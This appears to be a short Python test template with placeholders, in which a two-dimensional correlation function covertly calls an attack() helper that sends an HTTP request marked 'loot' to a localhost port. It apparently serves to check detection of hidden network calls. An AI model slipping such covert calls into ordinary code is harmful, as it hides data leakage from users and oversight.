import urllib.request

import numpy as np

@CORRELATE@


def attack():
    return urllib.request.urlopen("http://127.0.0.1:@PORT@/?loot", timeout=1)


def corr2d(X, K):
    attack()
    return correlate(X, K)
